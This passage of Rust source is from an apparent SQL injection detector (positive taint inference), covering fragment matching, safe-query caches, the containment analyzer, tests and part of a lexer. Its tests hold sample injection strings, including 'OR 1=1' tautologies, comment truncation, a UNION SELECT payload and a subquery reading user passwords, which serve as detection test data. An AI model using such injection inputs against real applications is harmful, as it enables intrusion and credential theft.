    /// end)` spans.
    pub fn occurrences(&self, query: &str) -> Vec<Match> {
        let hay = query.as_bytes();
        match self.kind {
            MatcherKind::Naive => self.naive.as_ref().expect("built in new").find_all(hay),
            MatcherKind::Mru => self.mru.as_ref().expect("built in new").lock().find_all(hay),
            MatcherKind::AhoCorasick => self.ac.as_ref().expect("built in new").find_all(hay),
        }
    }

    /// Fragment occurrences with early exit: scanning stops as soon as
    /// `done` returns `true` on the matches collected so far. Only the MRU
    /// matcher can exit early (that is the point of the paper's combined
    /// MRU + parse-first optimization, §VI-A); the other strategies fall
    /// back to a full scan.
    pub fn occurrences_until<F>(&self, query: &str, done: F) -> Vec<Match>
    where
        F: Fn(&[Match]) -> bool,
    {
        match self.kind {
            MatcherKind::Mru => self
                .mru
                .as_ref()
                .expect("built in new")
                .lock()
                .find_all_until(query.as_bytes(), done),
            _ => self.occurrences(query),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_matchers_agree() {
        let frags = ["SELECT * FROM t WHERE id=", " LIMIT 1", "OR", "="];
        let q = "SELECT * FROM t WHERE id=5 OR 1=1 LIMIT 1";
        let mut results: Vec<Vec<(usize, usize, usize)>> = Vec::new();
        for kind in [MatcherKind::Naive, MatcherKind::Mru, MatcherKind::AhoCorasick] {
            let store = FragmentStore::new(frags, kind);
            let mut occ: Vec<(usize, usize, usize)> =
                store.occurrences(q).iter().map(|m| (m.pattern, m.start, m.end)).collect();
            occ.sort_unstable();
            results.push(occ);
        }
        assert_eq!(results[0], results[1]);
        assert_eq!(results[0], results[2]);
        assert!(!results[0].is_empty());
    }

    #[test]
    fn empty_store() {
        let store = FragmentStore::new(Vec::<&str>::new(), MatcherKind::AhoCorasick);
        assert!(store.is_empty());
        assert!(store.occurrences("SELECT 1").is_empty());
    }

    #[test]
    fn from_set_roundtrip() {
        let mut set = FragmentSet::new();
        set.insert("SELECT");
        set.insert("FROM");
        let store = FragmentStore::from_set(&set, MatcherKind::Naive);
        assert_eq!(store.len(), 2);
        assert_eq!(store.occurrences("SELECT x FROM t").len(), 2);
    }
}
