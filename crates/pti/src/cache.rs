//! PTI caches: the query cache (§IV-C2) and the query structure cache
//! (§IV-C1, §VI-A).

use joza_sqlparse::fingerprint::fingerprint;
use parking_lot::RwLock;
use std::collections::hash_map::DefaultHasher;
use std::collections::HashSet;
use std::hash::{Hash, Hasher};
use std::sync::atomic::{AtomicU64, Ordering};

/// Statistics shared by both caches.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct CacheStats {
    /// Lookups that found an entry.
    pub hits: u64,
    /// Lookups that found nothing.
    pub misses: u64,
    /// Entries inserted.
    pub inserts: u64,
}

impl CacheStats {
    /// Hit rate in `[0, 1]`; 0 when no lookups happened.
    pub fn hit_rate(&self) -> f64 {
        let total = self.hits + self.misses;
        if total == 0 {
            0.0
        } else {
            self.hits as f64 / total as f64
        }
    }
}

/// The PTI query cache: remembers exact queries that were analyzed safe.
///
/// "Because many queries of a web application are constant and do not rely
/// on any user-input, caching improves performance significantly" (§IV-C2).
/// Only *safe* verdicts are cached — an attack must always re-trigger full
/// analysis and reporting.
#[derive(Debug, Default)]
pub struct QueryCache {
    safe: HashSet<u64>,
    stats: CacheStats,
}

impl QueryCache {
    /// Creates an empty cache.
    pub fn new() -> Self {
        Self::default()
    }

    /// Whether this exact query was previously found safe.
    pub fn lookup(&mut self, query: &str) -> bool {
        let hit = self.safe.contains(&hash_str(query));
        if hit {
            self.stats.hits += 1;
        } else {
            self.stats.misses += 1;
        }
        hit
    }

    /// Records a safe query.
    pub fn insert_safe(&mut self, query: &str) {
        if self.safe.insert(hash_str(query)) {
            self.stats.inserts += 1;
        }
    }

    /// Number of cached safe queries.
    pub fn len(&self) -> usize {
        self.safe.len()
    }

    /// Whether the cache is empty.
    pub fn is_empty(&self) -> bool {
        self.safe.is_empty()
    }

    /// Lookup/insert statistics.
    pub fn stats(&self) -> CacheStats {
        self.stats
    }
}

/// The query structure cache: remembers the *shape* of safe queries — the
/// AST skeleton with data-node contents erased.
///
/// "This caching mechanism caches the safety result of all queries except
/// those dynamically generated inside the application" (§VI-A): two
/// queries that differ only in literal contents share a fingerprint, so a
/// comment INSERT pays full analysis once per shape rather than once per
/// comment. An injected token necessarily changes the shape and therefore
/// misses the cache.
#[derive(Debug, Default)]
pub struct StructureCache {
    safe: HashSet<u64>,
    stats: CacheStats,
}

impl StructureCache {
    /// Creates an empty cache.
    pub fn new() -> Self {
        Self::default()
    }

    /// Whether a query with this structure was previously found safe.
    pub fn lookup(&mut self, query: &str) -> bool {
        self.lookup_fp(fingerprint(query))
    }

    /// [`StructureCache::lookup`] with a precomputed fingerprint — the
    /// parse-once entry point for callers that already hold the query's
    /// [`fingerprint`].
    pub fn lookup_fp(&mut self, fp: u64) -> bool {
        let hit = self.safe.contains(&fp);
        if hit {
            self.stats.hits += 1;
        } else {
            self.stats.misses += 1;
        }
        hit
    }

    /// Records a safe query's structure.
    pub fn insert_safe(&mut self, query: &str) {
        self.insert_safe_fp(fingerprint(query));
    }

    /// [`StructureCache::insert_safe`] with a precomputed fingerprint.
    pub fn insert_safe_fp(&mut self, fp: u64) {
        if self.safe.insert(fp) {
            self.stats.inserts += 1;
        }
    }

    /// Number of cached safe shapes.
    pub fn len(&self) -> usize {
        self.safe.len()
    }

    /// Whether the cache is empty.
    pub fn is_empty(&self) -> bool {
        self.safe.is_empty()
    }

    /// Lookup/insert statistics.
    pub fn stats(&self) -> CacheStats {
        self.stats
    }
}

/// A thread-safe query cache shared by every shard of a lock-sharded
/// engine: the *shared read layer* of the striped PTI caches.
///
/// Same contract as [`QueryCache`] — only safe verdicts are remembered —
/// but lookups take `&self` (reader lock) so N server workers can consult
/// it concurrently; a safe query found by one worker is immediately
/// visible to all others. Statistics are lock-free atomic counters, so
/// snapshots taken while workers are running are always consistent
/// totals.
#[derive(Debug, Default)]
pub struct SharedQueryCache {
    safe: RwLock<HashSet<u64>>,
    hits: AtomicU64,
    misses: AtomicU64,
    inserts: AtomicU64,
}

impl SharedQueryCache {
    /// Creates an empty cache.
    pub fn new() -> Self {
        Self::default()
    }

    /// Whether this exact query was previously found safe (by any worker).
    pub fn lookup(&self, query: &str) -> bool {
        let hit = self.safe.read().contains(&hash_str(query));
        if hit {
            self.hits.fetch_add(1, Ordering::Relaxed);
        } else {
            self.misses.fetch_add(1, Ordering::Relaxed);
        }
        hit
    }

    /// Records a safe query.
    pub fn insert_safe(&self, query: &str) {
        if self.safe.write().insert(hash_str(query)) {
            self.inserts.fetch_add(1, Ordering::Relaxed);
        }
    }

    /// Number of cached safe queries.
    pub fn len(&self) -> usize {
        self.safe.read().len()
    }

    /// Whether the cache is empty.
    pub fn is_empty(&self) -> bool {
        self.safe.read().is_empty()
    }

    /// Lookup/insert statistics snapshot.
    pub fn stats(&self) -> CacheStats {
        CacheStats {
            hits: self.hits.load(Ordering::Relaxed),
            misses: self.misses.load(Ordering::Relaxed),
            inserts: self.inserts.load(Ordering::Relaxed),
        }
    }
}

fn hash_str(s: &str) -> u64 {
    let mut h = DefaultHasher::new();
    s.hash(&mut h);
    h.finish()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn query_cache_exact_match_only() {
        let mut c = QueryCache::new();
        assert!(!c.lookup("SELECT 1"));
        c.insert_safe("SELECT 1");
        assert!(c.lookup("SELECT 1"));
        assert!(!c.lookup("SELECT 2"));
        assert_eq!(c.stats().hits, 1);
        assert_eq!(c.stats().misses, 2);
        assert_eq!(c.len(), 1);
    }

    #[test]
    fn structure_cache_matches_same_shape() {
        let mut c = StructureCache::new();
        c.insert_safe("INSERT INTO comments (body) VALUES ('first comment')");
        // Different literal contents, same shape: hit.
        assert!(c.lookup("INSERT INTO comments (body) VALUES ('a totally different comment')"));
        // Injected structure: miss.
        assert!(
            !c.lookup("INSERT INTO comments (body) VALUES ('x'), ((SELECT user_pass FROM users))")
        );
    }

    #[test]
    fn structure_cache_misses_on_tautology() {
        let mut c = StructureCache::new();
        c.insert_safe("SELECT * FROM t WHERE id=5");
        assert!(c.lookup("SELECT * FROM t WHERE id=123456"));
        assert!(!c.lookup("SELECT * FROM t WHERE id=5 OR 1=1"));
        assert!(!c.lookup("SELECT * FROM t WHERE id=5 -- c"));
    }

    #[test]
    fn hit_rate() {
        let mut c = QueryCache::new();
        c.insert_safe("q");
        c.lookup("q");
        c.lookup("q");
        c.lookup("other");
        assert!((c.stats().hit_rate() - 2.0 / 3.0).abs() < 1e-9);
        let empty = QueryCache::new();
        assert_eq!(empty.stats().hit_rate(), 0.0);
    }

    #[test]
    fn duplicate_insert_counted_once() {
        let mut c = QueryCache::new();
        c.insert_safe("q");
        c.insert_safe("q");
        assert_eq!(c.stats().inserts, 1);
        assert_eq!(c.len(), 1);
    }

    #[test]
    fn shared_cache_matches_local_semantics() {
        let c = SharedQueryCache::new();
        assert!(!c.lookup("SELECT 1"));
        c.insert_safe("SELECT 1");
        c.insert_safe("SELECT 1");
        assert!(c.lookup("SELECT 1"));
        assert!(!c.lookup("SELECT 2"));
        let s = c.stats();
        assert_eq!((s.hits, s.misses, s.inserts), (1, 2, 1));
        assert_eq!(c.len(), 1);
        assert!(!c.is_empty());
    }

    #[test]
    fn shared_cache_visible_across_threads() {
        let c = std::sync::Arc::new(SharedQueryCache::new());
        let writer = std::sync::Arc::clone(&c);
        std::thread::spawn(move || writer.insert_safe("warm"))
            .join()
            .expect("writer thread panicked");
        assert!(c.lookup("warm"), "insert from another thread must be visible");
    }
}
