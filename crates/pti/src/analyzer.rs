//! The PTI containment algorithm.

use crate::store::{FragmentStore, MatcherKind};
use joza_sqlparse::critical::{critical_tokens, CriticalPolicy};
use joza_sqlparse::lexer::lex;
use joza_sqlparse::token::Token;
use std::sync::Arc;

/// Configuration for the PTI analyzer.
#[derive(Debug, Clone, Default)]
pub struct PtiConfig {
    /// Matcher strategy.
    pub matcher: MatcherKind,
    /// Critical-token policy shared with NTI.
    pub critical: CriticalPolicy,
    /// Parse-first optimization (§VI-A): extract the critical-token set
    /// before matching and stop scanning once all critical tokens are
    /// covered. With it disabled every fragment occurrence is enumerated.
    pub parse_first: bool,
}

impl PtiConfig {
    /// The paper's optimized configuration: MRU matcher + parse-first.
    pub fn optimized() -> Self {
        PtiConfig {
            matcher: MatcherKind::Mru,
            critical: CriticalPolicy::default(),
            parse_first: true,
        }
    }

    /// The unoptimized prototype: naive scan, no parse-first.
    pub fn unoptimized() -> Self {
        PtiConfig {
            matcher: MatcherKind::Naive,
            critical: CriticalPolicy::default(),
            parse_first: false,
        }
    }
}

/// The outcome of one PTI analysis.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct PtiReport {
    /// Critical tokens *not* fully contained in any single fragment
    /// occurrence — the attack evidence.
    pub uncovered_critical: Vec<Token>,
    /// Total critical tokens in the query.
    pub critical_count: usize,
    /// Number of fragment occurrences found.
    pub occurrence_count: usize,
}

impl PtiReport {
    /// Whether PTI flags this query as an attack.
    pub fn is_attack(&self) -> bool {
        !self.uncovered_critical.is_empty()
    }
}

/// The PTI analysis engine: a fragment vocabulary plus the containment
/// check.
#[derive(Debug, Clone)]
pub struct PtiAnalyzer {
    store: Arc<FragmentStore>,
    config: PtiConfig,
}

impl PtiAnalyzer {
    /// Creates an analyzer over a prebuilt store.
    pub fn new(store: Arc<FragmentStore>, config: PtiConfig) -> Self {
        PtiAnalyzer { store, config }
    }

    /// Convenience constructor compiling the fragments with the
    /// configuration's matcher kind.
    pub fn from_fragments<I, S>(fragments: I, config: PtiConfig) -> Self
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let store = Arc::new(FragmentStore::new(fragments, config.matcher));
        PtiAnalyzer { store, config }
    }

    /// The fragment store.
    pub fn store(&self) -> &FragmentStore {
        &self.store
    }

    /// The analyzer configuration.
    pub fn config(&self) -> &PtiConfig {
        &self.config
    }

    /// Analyzes one query: every critical token must be fully contained
    /// within a single fragment occurrence (§III-B).
    ///
    /// With `parse_first` enabled (§VI-A), the critical-token set is
    /// extracted before matching and the fragment scan stops as soon as
    /// every critical token is covered — "benign queries are therefore
    /// quickly matched, while malicious queries may require scanning the
    /// entire set of fragments".
    pub fn analyze(&self, query: &str) -> PtiReport {
        let tokens = lex(query);
        self.analyze_tokens(query, &tokens)
    }

    /// [`PtiAnalyzer::analyze`] over a pre-lexed token stream — the
    /// parse-once entry point. `tokens` must be `lex(query)`; the report is
    /// bit-identical to [`PtiAnalyzer::analyze`] under that contract.
    pub fn analyze_tokens(&self, query: &str, tokens: &[Token]) -> PtiReport {
        let criticals = critical_tokens(query, tokens, &self.config.critical);
        let covered_by = |occ: &[joza_strmatch::Match], c: &Token| {
            occ.iter().any(|m| m.start <= c.start && c.end <= m.end)
        };
        let occurrences = if self.config.parse_first {
            // The closure only needs to borrow the criticals for the scan.
            self.store.occurrences_until(query, |occ| criticals.iter().all(|c| covered_by(occ, c)))
        } else {
            self.store.occurrences(query)
        };

        let mut uncovered = Vec::new();
        for c in &criticals {
            if !covered_by(&occurrences, c) {
                uncovered.push(*c);
            }
        }
        PtiReport {
            uncovered_critical: uncovered,
            critical_count: criticals.len(),
            occurrence_count: occurrences.len(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn paper_analyzer() -> PtiAnalyzer {
        // Fragments from the §III-B example.
        PtiAnalyzer::from_fragments(
            ["id", "SELECT * FROM records WHERE ID=", " LIMIT 5"],
            PtiConfig::default(),
        )
    }

    #[test]
    fn fig3a_benign_covered() {
        let r = paper_analyzer().analyze("SELECT * FROM records WHERE ID=42 LIMIT 5");
        assert!(!r.is_attack(), "{r:?}");
        assert!(r.critical_count > 0);
    }

    #[test]
    fn fig3b_union_payload_uncovered() {
        let r = paper_analyzer()
            .analyze("SELECT * FROM records WHERE ID=-1 UNION SELECT username() LIMIT 5");
        assert!(r.is_attack());
        let texts: Vec<String> = r
            .uncovered_critical
            .iter()
            .map(|t| {
                t.text("SELECT * FROM records WHERE ID=-1 UNION SELECT username() LIMIT 5")
                    .to_string()
            })
            .collect();
        assert!(texts.contains(&"UNION".to_string()));
        assert!(texts.contains(&"SELECT".to_string()));
        assert!(texts.contains(&"username".to_string()));
    }

    #[test]
    fn fig3c_vocabulary_attack_covered() {
        // Part C of Figure 3: if the program contains `OR` and `=`
        // fragments, the tautology goes undetected.
        let pti = PtiAnalyzer::from_fragments(
            ["id", "SELECT * FROM records WHERE ID=", " LIMIT 5", "OR", "="],
            PtiConfig::default(),
        );
        let r = pti.analyze("SELECT * FROM records WHERE ID=1 OR 1 = 1 LIMIT 5");
        assert!(!r.is_attack(), "{r:?}");
    }

    #[test]
    fn critical_token_must_come_from_single_fragment() {
        // Fragments `O` and `R` must not combine to cover `OR`.
        let pti = PtiAnalyzer::from_fragments(
            ["SELECT * FROM t WHERE id=", "O", "R"],
            PtiConfig::default(),
        );
        let r = pti.analyze("SELECT * FROM t WHERE id=1 OR 1");
        assert!(r.is_attack(), "{r:?}");
    }

    #[test]
    fn comment_must_be_one_fragment() {
        // A comment is a single critical token; `/*` + `*/` fragments must
        // not cover an attacker-stuffed comment.
        let pti = PtiAnalyzer::from_fragments(
            ["SELECT * FROM t WHERE id=", "/*", "*/"],
            PtiConfig::default(),
        );
        let r = pti.analyze("SELECT * FROM t WHERE id=1 /* stuffing */");
        assert!(r.is_attack());
        // But a whole-comment fragment covers it.
        let pti = PtiAnalyzer::from_fragments(
            ["SELECT * FROM t WHERE id=", "/* stuffing */"],
            PtiConfig::default(),
        );
        assert!(!pti.analyze("SELECT * FROM t WHERE id=1 /* stuffing */").is_attack());
    }

    #[test]
    fn second_order_style_coverage() {
        // PTI is input-independent: as long as the final query's critical
        // tokens come from program fragments it is safe, no matter where
        // the data travelled in between.
        let pti = PtiAnalyzer::from_fragments(
            ["SELECT body FROM cache WHERE key='", "'"],
            PtiConfig::default(),
        );
        let r = pti.analyze("SELECT body FROM cache WHERE key='whatever-data'");
        assert!(!r.is_attack());
    }

    #[test]
    fn empty_fragment_store_flags_everything_with_criticals() {
        let pti = PtiAnalyzer::from_fragments(Vec::<&str>::new(), PtiConfig::default());
        assert!(pti.analyze("SELECT 1").is_attack());
    }

    #[test]
    fn query_with_no_critical_tokens_is_safe() {
        let pti = PtiAnalyzer::from_fragments(Vec::<&str>::new(), PtiConfig::default());
        // A bare number has no critical tokens at all.
        let r = pti.analyze("42");
        assert!(!r.is_attack());
        assert_eq!(r.critical_count, 0);
    }

    #[test]
    fn overlapping_fragments_each_cover_their_tokens() {
        let pti = PtiAnalyzer::from_fragments(
            ["SELECT a FROM t", "FROM t WHERE b=", "="],
            PtiConfig::default(),
        );
        let r = pti.analyze("SELECT a FROM t WHERE b=1");
        assert!(!r.is_attack(), "{r:?}");
    }

    #[test]
    fn case_sensitive_matching() {
        // PTI matching is exact: Taintless must case-match tokens (§V-A).
        let pti = PtiAnalyzer::from_fragments(
            ["select * from t where id=", " limit 5"],
            PtiConfig::default(),
        );
        let r = pti.analyze("SELECT * FROM t WHERE id=1 LIMIT 5");
        assert!(r.is_attack(), "uppercase query vs lowercase fragments must mismatch");
    }

    #[test]
    fn all_matchers_same_verdict() {
        let frags = ["SELECT * FROM t WHERE id=", " LIMIT 1", "OR"];
        let queries = [
            "SELECT * FROM t WHERE id=1 LIMIT 1",
            "SELECT * FROM t WHERE id=1 OR 1=1 LIMIT 1",
            "SELECT * FROM t WHERE id=-1 UNION SELECT 1 LIMIT 1",
        ];
        for q in queries {
            let verdicts: Vec<bool> =
                [MatcherKind::Naive, MatcherKind::Mru, MatcherKind::AhoCorasick]
                    .into_iter()
                    .map(|m| {
                        PtiAnalyzer::from_fragments(
                            frags,
                            PtiConfig { matcher: m, ..Default::default() },
                        )
                        .analyze(q)
                        .is_attack()
                    })
                    .collect();
            assert!(verdicts.windows(2).all(|w| w[0] == w[1]), "{q}: {verdicts:?}");
        }
    }
}
