#![warn(missing_docs)]
//! Positive taint inference (PTI) — §III-B and §IV-C of the Joza paper.
//!
//! PTI inverts NTI's trust model: instead of inferring what is *untrusted*
//! from inputs, it infers what is *trusted* from the program itself. String
//! fragments are extracted from the application's source (see
//! `joza_phpsim::fragments`); an intercepted query is safe exactly when
//! every critical token is **fully contained within a single fragment
//! occurrence**. Combining fragments to assemble a critical token is
//! rejected by construction, and a comment is one critical token that must
//! come whole from one fragment.
//!
//! The architecture pieces from §IV-C are all here:
//!
//! * [`analyzer`] — the containment algorithm, generic over three matcher
//!   strategies (naive scan, the paper's MRU-reordered scan, and an
//!   Aho–Corasick automaton) so the Figure 7 ablation can compare them;
//! * [`cache`] — the **PTI query cache** (exact query → safe) and the
//!   **query structure cache** (AST skeleton hash → safe, "without storing
//!   contents of data nodes");
//! * [`daemon`] — the PTI daemon: a separate worker speaking a
//!   length-prefixed binary protocol over channels (standing in for the
//!   paper's named/anonymous pipes), spawnable per-request or long-lived,
//!   with an in-process mode that models the paper's "PHP extension"
//!   overhead estimate.
//!
//! # Examples
//!
//! ```
//! use joza_pti::{PtiAnalyzer, PtiConfig};
//!
//! // Fragments extracted from the §III-B example program.
//! let fragments = ["id", "SELECT * FROM records WHERE ID=", " LIMIT 5"];
//! let pti = PtiAnalyzer::from_fragments(fragments, PtiConfig::default());
//!
//! assert!(!pti.analyze("SELECT * FROM records WHERE ID=42 LIMIT 5").is_attack());
//! assert!(pti
//!     .analyze("SELECT * FROM records WHERE ID=-1 UNION SELECT username() LIMIT 5")
//!     .is_attack());
//! ```

pub mod analyzer;
pub mod cache;
pub mod daemon;
pub mod store;

pub use analyzer::{PtiAnalyzer, PtiConfig, PtiReport};
pub use cache::{CacheStats, QueryCache, SharedQueryCache, StructureCache};
pub use daemon::{DaemonMode, PreparedSql, PtiClient, PtiComponent, PtiDaemon};
pub use store::{FragmentStore, MatcherKind};
