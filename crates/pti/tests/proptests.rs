//! Property-based tests for PTI invariants: vocabulary monotonicity,
//! matcher equivalence, cache transparency, whole-query coverage.

use joza_pti::analyzer::{PtiAnalyzer, PtiConfig};
use joza_pti::daemon::{DaemonMode, PtiComponent, PtiComponentConfig};
use joza_pti::MatcherKind;
use proptest::prelude::*;

fn frag_strategy() -> impl Strategy<Value = Vec<String>> {
    proptest::collection::vec("[A-Za-z =']{1,18}", 0..8)
}

proptest! {
    /// Adding fragments can only make more queries safe, never fewer
    /// (coverage is monotone in the vocabulary).
    #[test]
    fn vocabulary_monotonicity(
        base in frag_strategy(),
        extra in frag_strategy(),
        query in "[ -~]{0,80}",
    ) {
        let small = PtiAnalyzer::from_fragments(base.clone(), PtiConfig::default());
        let mut bigger = base.clone();
        bigger.extend(extra);
        let big = PtiAnalyzer::from_fragments(bigger, PtiConfig::default());
        if !small.analyze(&query).is_attack() {
            prop_assert!(!big.analyze(&query).is_attack());
        }
    }

    /// A query that appears verbatim as a fragment is always safe.
    #[test]
    fn whole_query_fragment_is_safe(query in "[ -~]{1,60}") {
        let pti = PtiAnalyzer::from_fragments([query.as_str()], PtiConfig::default());
        prop_assert!(!pti.analyze(&query).is_attack());
    }

    /// All three matchers and the parse-first toggle agree on verdicts.
    #[test]
    fn matchers_and_parse_first_agree(
        frags in frag_strategy(),
        query in "[ -~]{0,60}",
    ) {
        let mut verdicts = Vec::new();
        for matcher in [MatcherKind::Naive, MatcherKind::Mru, MatcherKind::AhoCorasick] {
            for parse_first in [false, true] {
                let pti = PtiAnalyzer::from_fragments(
                    frags.clone(),
                    PtiConfig { matcher, parse_first, ..PtiConfig::default() },
                );
                verdicts.push(pti.analyze(&query).is_attack());
            }
        }
        prop_assert!(verdicts.windows(2).all(|w| w[0] == w[1]), "{query}: {verdicts:?}");
    }

    /// The analyzer is deterministic (MRU reordering must not leak into
    /// results).
    #[test]
    fn repeated_analysis_is_stable(
        frags in frag_strategy(),
        queries in proptest::collection::vec("[ -~]{0,40}", 1..6),
    ) {
        let pti = PtiAnalyzer::from_fragments(frags, PtiConfig::optimized());
        for q in &queries {
            let a = pti.analyze(q).is_attack();
            let b = pti.analyze(q).is_attack();
            prop_assert_eq!(a, b, "verdict flipped on {}", q);
        }
    }

    /// Caches are transparent: a component with caches gives the same
    /// verdicts as a cache-less in-process analyzer, in any order.
    #[test]
    fn caches_are_transparent(
        frags in frag_strategy(),
        queries in proptest::collection::vec("[ -~]{0,40}", 1..8),
    ) {
        let reference = PtiAnalyzer::from_fragments(frags.clone(), PtiConfig::default());
        let mut cached = PtiComponent::new(
            &frags,
            PtiComponentConfig {
                mode: DaemonMode::InProcess,
                ..PtiComponentConfig::optimized()
            },
        );
        for q in &queries {
            let expected = !reference.analyze(q).is_attack();
            prop_assert_eq!(cached.check(q).safe, expected, "cache drift on {}", q);
            // Check twice: the second hit must agree too.
            prop_assert_eq!(cached.check(q).safe, expected, "second check drift on {}", q);
        }
    }

    /// The uncovered-critical list is always a subset of the query's
    /// critical tokens and empty exactly when the verdict is safe.
    #[test]
    fn report_internal_consistency(
        frags in frag_strategy(),
        query in "[ -~]{0,60}",
    ) {
        let pti = PtiAnalyzer::from_fragments(frags, PtiConfig::default());
        let report = pti.analyze(&query);
        prop_assert_eq!(report.is_attack(), !report.uncovered_critical.is_empty());
        prop_assert!(report.uncovered_critical.len() <= report.critical_count);
        for t in &report.uncovered_critical {
            prop_assert!(t.end <= query.len());
        }
    }
}

/// The daemon survives hostile query content: embedded NULs, very long
/// queries, non-UTF8-safe byte patterns (as lossy strings), empty input.
#[test]
fn daemon_failure_injection() {
    use joza_pti::store::FragmentStore;
    use std::sync::Arc;
    let store = Arc::new(FragmentStore::new(["SELECT 1"], MatcherKind::default()));
    let client = joza_pti::daemon::PtiDaemon::spawn(store, PtiConfig::default(), true);
    let long = "SELECT 1 UNION SELECT ".repeat(2000);
    for q in ["", "\0\0\0", &long, "SELECT 1", "'", "/*", "--"] {
        let _ = client.check(q); // must not hang or kill the daemon
    }
    // Still alive and correct afterwards.
    assert!(client.check("SELECT 1").safe);
    client.shutdown();
}

/// Shutdown is idempotent via drop, and multiple daemons do not interfere.
#[test]
fn daemon_lifecycle() {
    use joza_pti::daemon::PtiDaemon;
    use joza_pti::store::FragmentStore;
    use std::sync::Arc;
    let store = Arc::new(FragmentStore::new(["SELECT 1"], MatcherKind::default()));
    let a = PtiDaemon::spawn(Arc::clone(&store), PtiConfig::default(), false);
    {
        let b = PtiDaemon::spawn(Arc::clone(&store), PtiConfig::default(), false);
        assert!(b.check("SELECT 1").safe);
        // b dropped here without explicit shutdown.
    }
    assert!(a.check("SELECT 1").safe, "sibling daemon unaffected by drop");
    a.shutdown();
}
