//! A total lexer for the MySQL dialect.
//!
//! "Total" means every input string produces a token stream: injected
//! queries are frequently malformed (unbalanced quotes, truncated
//! comments), and the taint analyses must still see their token structure.
//! Unterminated strings and comments extend to the end of the input;
//! unclassifiable bytes become [`TokenKind::Unknown`] tokens.

use crate::keywords::is_keyword;
use crate::token::{Token, TokenKind};
use joza_strmatch::swar;

/// Lexes `source` into a whitespace-free token stream.
///
/// # Examples
///
/// ```
/// use joza_sqlparse::lexer::lex;
/// use joza_sqlparse::token::TokenKind;
///
/// let toks = lex("SELECT id FROM t WHERE a='x' -- done");
/// let kinds: Vec<TokenKind> = toks.iter().map(|t| t.kind).collect();
/// assert_eq!(kinds, [
///     TokenKind::Keyword,    // SELECT
///     TokenKind::Identifier, // id
///     TokenKind::Keyword,    // FROM
///     TokenKind::Identifier, // t
///     TokenKind::Keyword,    // WHERE
///     TokenKind::Identifier, // a
///     TokenKind::Operator,   // =
///     TokenKind::StringLit,  // 'x'
///     TokenKind::Comment,    // -- done
/// ]);
/// ```
pub fn lex(source: &str) -> Vec<Token> {
    let mut tokens = Vec::new();
    lex_into(source, &mut tokens);
    tokens
}

/// [`lex`] into a caller-owned buffer: `tokens` is cleared and refilled,
/// so a recycled buffer makes repeated lexing allocation-free once its
/// capacity has grown to the working set. This is the per-check entry
/// point (`joza-core` routes it through its check arena); byte scanning
/// runs on the word-parallel [`swar`] kernels.
pub fn lex_into(source: &str, tokens: &mut Vec<Token>) {
    tokens.clear();
    Lexer { src: source.as_bytes(), pos: 0 }.run(tokens);
    // Words lex as Identifier; promote reserved words to Keyword.
    for t in tokens {
        if t.kind == TokenKind::Identifier && is_keyword(t.text(source)) {
            t.kind = TokenKind::Keyword;
        }
    }
}

struct Lexer<'a> {
    src: &'a [u8],
    pos: usize,
}

impl<'a> Lexer<'a> {
    fn run(mut self, out: &mut Vec<Token>) {
        while self.pos < self.src.len() {
            let start = self.pos;
            let b = self.src[self.pos];
            let kind = match b {
                b if b.is_ascii_whitespace() => {
                    self.pos = swar::scan_ws(self.src, self.pos + 1);
                    continue;
                }
                b'\'' | b'"' => self.string_lit(b),
                b'`' => self.backtick_ident(),
                b'#' => self.line_comment(),
                b'-' if self.peek(1) == Some(b'-') && self.dash_dash_is_comment() => {
                    self.line_comment()
                }
                b'/' if self.peek(1) == Some(b'*') => self.block_comment(),
                b'0'..=b'9' => self.number(),
                b'.' if self.peek(1).is_some_and(|c| c.is_ascii_digit()) => self.number(),
                b'.' => {
                    self.pos += 1;
                    TokenKind::Dot
                }
                b'(' => {
                    self.pos += 1;
                    TokenKind::LParen
                }
                b')' => {
                    self.pos += 1;
                    TokenKind::RParen
                }
                b',' => {
                    self.pos += 1;
                    TokenKind::Comma
                }
                b';' => {
                    self.pos += 1;
                    TokenKind::Semicolon
                }
                b'?' => {
                    self.pos += 1;
                    TokenKind::Placeholder
                }
                b':' if self.peek(1).is_some_and(is_ident_start) => {
                    self.pos += 1;
                    self.ident_tail();
                    TokenKind::Placeholder
                }
                b'@' => {
                    self.pos += 1;
                    if self.peek(0) == Some(b'@') {
                        self.pos += 1;
                    }
                    self.ident_tail();
                    TokenKind::Variable
                }
                b if is_ident_start(b) => {
                    self.ident();
                    TokenKind::Identifier
                }
                b if is_operator_start(b) => self.operator(),
                _ => {
                    self.pos += 1;
                    TokenKind::Unknown
                }
            };
            out.push(Token { kind, start, end: self.pos });
        }
    }

    fn peek(&self, ahead: usize) -> Option<u8> {
        self.src.get(self.pos + ahead).copied()
    }

    /// MySQL requires `--` to be followed by whitespace (or end of input)
    /// to start a comment; `-1--2` is arithmetic.
    fn dash_dash_is_comment(&self) -> bool {
        match self.peek(2) {
            None => true,
            Some(c) => c.is_ascii_whitespace(),
        }
    }

    fn string_lit(&mut self, quote: u8) -> TokenKind {
        self.pos += 1; // opening quote
                       // Word-scan to the next byte that can end or escape the literal;
                       // everything between is plain content.
        while self.pos < self.src.len() {
            self.pos = swar::find_byte2(self.src, self.pos, quote, b'\\');
            if self.pos >= self.src.len() {
                break;
            }
            if self.src[self.pos] == b'\\' && self.pos + 1 < self.src.len() {
                self.pos += 2; // backslash escape
            } else if self.src[self.pos] == quote {
                if self.peek(1) == Some(quote) {
                    self.pos += 2; // doubled quote escape
                } else {
                    self.pos += 1; // closing quote
                    return TokenKind::StringLit;
                }
            } else {
                // Trailing backslash at end of input: plain content.
                self.pos += 1;
            }
        }
        TokenKind::StringLit // unterminated: extends to end of input
    }

    fn backtick_ident(&mut self) -> TokenKind {
        self.pos = swar::find_byte(self.src, self.pos + 1, b'`');
        if self.pos < self.src.len() {
            self.pos += 1; // closing backtick
        }
        TokenKind::QuotedIdentifier
    }

    fn line_comment(&mut self) -> TokenKind {
        self.pos = swar::find_byte(self.src, self.pos, b'\n');
        TokenKind::Comment
    }

    fn block_comment(&mut self) -> TokenKind {
        self.pos += 2; // consume `/*`
        while self.pos < self.src.len() {
            self.pos = swar::find_byte(self.src, self.pos, b'*');
            if self.peek(1) == Some(b'/') {
                self.pos += 2;
                return TokenKind::Comment;
            }
            if self.pos < self.src.len() {
                self.pos += 1;
            }
        }
